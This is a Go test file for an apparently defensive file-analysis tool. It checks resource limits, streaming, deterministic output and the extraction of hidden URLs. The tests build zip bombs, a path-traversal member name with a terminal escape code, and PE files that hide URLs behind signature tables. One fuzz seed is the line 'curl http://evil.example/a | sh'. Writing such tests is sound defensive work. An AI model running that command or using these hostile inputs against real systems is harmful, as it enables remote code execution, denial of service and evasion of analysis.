package artifact_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"clew/internal/artifact"
	"clew/internal/observation"
)

// zipOf packs one member.
func zipOf(t testing.TB, name string, write func(io.Writer)) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	f, err := w.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	write(f)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func put(t testing.TB, data []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "sample")
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func problems(files []*artifact.File) string {
	var all []string
	for _, f := range files {
		all = append(all, f.Problems...)
	}
	return strings.Join(all, "\n")
}

func TestBombsEndAtTheLimit(t *testing.T) {
	zeros := func(n int) func(io.Writer) {
		return func(w io.Writer) {
			for range n {
				_, _ = w.Write(make([]byte, 1<<20))
			}
		}
	}
	flat := zipOf(t, "flat", zeros(200))
	// Ten copies of a bomb in one zip, and that ten times again.
	layer := flat
	for range 2 {
		var out bytes.Buffer
		w := zip.NewWriter(&out)
		for i := range 10 {
			f, _ := w.CreateHeader(&zip.FileHeader{Name: fmt.Sprint(i, ".zip"), Method: zip.Store})
			_, _ = f.Write(layer)
		}
		_ = w.Close()
		layer = out.Bytes()
	}
	for name, data := range map[string][]byte{"flat": flat, "layers": layer} {
		a := artifact.Analyzer{Limits: artifact.Limits{Unpack: 64 << 20}, Now: time.Unix(0, 0)}
		started := time.Now()
		files, err := walkOne(&a, put(t, data))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(problems(files), "unpacks to more than the limit") {
			t.Errorf("%s: the limit is not said: %q", name, problems(files))
		}
		var total int64
		for _, f := range files[1:] {
			total += f.Size
		}
		if total > 64<<20 {
			t.Errorf("%s: %d bytes came out", name, total)
		}
		if took := time.Since(started); took > time.Minute {
			t.Errorf("%s took %s", name, took)
		}
	}
}

func TestDepthIsBounded(t *testing.T) {
	data := []byte("http://deep.evil-panel.com/")
	for i := range 8 {
		data = zipOf(t, fmt.Sprint("level", i), func(w io.Writer) { _, _ = w.Write(data) })
	}
	a := artifact.Analyzer{Now: time.Unix(0, 0)}
	files, err := walkOne(&a, put(t, data))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != artifact.DefaultDepth+1 || !strings.Contains(problems(files), "4 archives deep") {
		t.Errorf("%d files, problems %q", len(files), problems(files))
	}
}

// TestNamesOfMembersLeadNowhere: a member called ../../x is shown, and written nowhere.
func TestNamesOfMembersLeadNowhere(t *testing.T) {
	dir := t.TempDir()
	sample := filepath.Join(dir, "a", "b", "sample.zip")
	if err := os.MkdirAll(filepath.Dir(sample), 0o700); err != nil {
		t.Fatal(err)
	}
	data := zipOf(t, "../../escaped\x1b[31m.txt", func(w io.Writer) { _, _ = w.Write([]byte("x")) })
	if err := os.WriteFile(sample, data, 0o600); err != nil {
		t.Fatal(err)
	}
	files, err := walkOne(&artifact.Analyzer{}, sample)
	if err != nil || len(files) != 2 {
		t.Fatal(files, err)
	}
	if strings.ContainsRune(files[1].Path, '\x1b') {
		t.Errorf("an escape got through: %q", files[1].Path)
	}
	found, _ := filepath.Glob(filepath.Join(dir, "*"))
	if len(found) != 1 {
		t.Errorf("something was written: %q", found)
	}
	for _, fact := range files[1].Observations() {
		if fact.Relation == observation.Filename && strings.ContainsAny(fact.Object.Text(), "/\\") {
			t.Errorf("a path became a name: %v", fact)
		}
	}
}

// TestHugeFilesAreStreamed reads a file with a hole in it. CLEW_HUGE makes it
// 10 GiB instead of 48 MiB.
func TestHugeFilesAreStreamed(t *testing.T) {
	size := int64(48 << 20)
	if os.Getenv("CLEW_HUGE") != "" {
		size = 10 << 30
	}
	path := filepath.Join(t.TempDir(), "sparse")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	head := readFile(t, "pe/testdata/plain.exe")
	_, err = f.WriteString(head)
	if err == nil {
		_, err = f.WriteAt([]byte("\x00http://end.evil-panel.com/x\x00"), size-40)
	}
	if err == nil {
		err = f.Truncate(size)
	}
	if err != nil {
		t.Skipf("no file with a hole here: %v", err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	most := watchMemory(t)
	started := time.Now()
	files, err := walkOne(&artifact.Analyzer{}, path)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%d bytes in %s, at most %d MiB of heap", size, time.Since(started), most()>>20)
	if files[0].Size != size || len(files[0].Artifacts) != 2 {
		t.Errorf("%d bytes read, artifacts %v", files[0].Size, files[0].Artifacts)
	}
	if heap := most(); heap > 256<<20 {
		t.Errorf("%d MiB of heap for a file that is streamed", heap>>20)
	}
}

// watchMemory samples the heap until the test ends.
func watchMemory(t *testing.T) (most func() uint64) {
	t.Helper()
	stop, done := make(chan struct{}), make(chan struct{})
	peak := make(chan uint64, 1)
	peak <- 0
	go func() {
		defer close(done)
		for {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			peak <- max(<-peak, m.HeapInuse)
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()
	t.Cleanup(func() { close(stop); <-done })
	return func() uint64 { p := <-peak; peak <- p; return p }
}

// TestSameFileSameBytes: two runs, and two orders of work, print the same.
func TestSameFileSameBytes(t *testing.T) {
	dir := t.TempDir()
	for i := range 40 {
		data := append([]byte(readFile(t, "pe/testdata/signed.exe")), fmt.Sprint(i, " http://c", i, ".evil-panel.com/")...)
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprint(i)), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var first []byte
	for range 3 {
		var out bytes.Buffer
		a := artifact.Analyzer{Now: time.Unix(1_800_000_000, 0)}
		err := a.Walk(context.Background(), []string{dir}, func(o artifact.Outcome) error {
			return json.NewEncoder(&out).Encode(o.Files)
		})
		if err != nil {
			t.Fatal(err)
		}
		if first == nil {
			first = out.Bytes()
		} else if !bytes.Equal(first, out.Bytes()) {
			t.Fatal("another run printed other bytes")
		}
	}
}

func TestCancelledWalkEnds(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	seen := 0
	a := artifact.Analyzer{}
	err := a.Walk(ctx, []string{"."}, func(artifact.Outcome) error {
		if seen++; seen == 3 {
			cancel()
		}
		return nil
	})
	if err == nil {
		t.Error("a cancelled walk ended without saying so")
	}
}

// TestSignaturesHideNothing: strings of certificates are left out, and a header
// that claims the whole program for signatures does not hide the program's.
func TestSignaturesHideNothing(t *testing.T) {
	const url = "http://hidden.evil-panel.com/gate"
	signed := []byte(readFile(t, "pe/testdata/signed.exe"))
	optional := int(binary.LittleEndian.Uint32(signed[60:])) + 24
	entry := optional + 96 + 8*4 // of PE32
	if binary.LittleEndian.Uint16(signed[optional:]) == 0x20b {
		entry += 16
	}
	claim := func(data []byte, at, size uint32) []byte {
		data = bytes.Clone(data)
		binary.LittleEndian.PutUint32(data[entry:], at)
		binary.LittleEndian.PutUint32(data[entry+4:], size)
		return data
	}
	table, size := binary.LittleEndian.Uint32(signed[entry:]), binary.LittleEndian.Uint32(signed[entry+4:])
	behind := append(bytes.Clone(signed), "\x00"+url+"\x00"...)
	behind = append(behind, make([]byte, -len(behind)&7)...)
	behind = claim(behind, table, size+uint32(len(behind)-len(signed)))
	binary.LittleEndian.PutUint32(behind[table:], uint32(len(behind))-table)
	for name, data := range map[string][]byte{
		"the whole file is claimed": claim(append(bytes.Clone(signed), "\x00"+url+"\x00"...), 8, 0xffffff00),
		"behind the signature":      behind,
	} {
		files, err := walkOne(&artifact.Analyzer{Now: time.Unix(1_800_000_000, 0)}, put(t, data))
		if err != nil {
			t.Fatal(err)
		}
		if !slices.ContainsFunc(files[0].Artifacts, func(a artifact.Artifact) bool { return a.Value == url }) {
			t.Errorf("%s: hidden from %v, problems %q", name, files[0].Artifacts, files[0].Problems)
		}
	}
}

// FuzzFile runs everything on one file, archives included.
func FuzzFile(f *testing.F) {
	signed, err := os.ReadFile("pe/testdata/signed.exe")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(signed)
	f.Add(zipOf(f, "a.exe", func(w io.Writer) { _, _ = w.Write(signed) }))
	f.Add([]byte("#!/bin/sh\ncurl http://evil.example/a | sh\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		path := filepath.Join(t.TempDir(), "f")
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
		a := artifact.Analyzer{Limits: artifact.Limits{Unpack: 1 << 20, Members: 20}, Now: time.Unix(1_800_000_000, 0)}
		files, err := walkOne(&a, path)
		if err != nil {
			t.Fatal(err)
		}
		for _, file := range files {
			if strings.Contains(strings.Join(file.Problems, "\n"), "gave up") {
				t.Errorf("%q", file.Problems)
			}
			for _, fact := range file.Observations() {
				if err := fact.Check(); err != nil {
					t.Error(err)
				}
			}
		}
	})
}
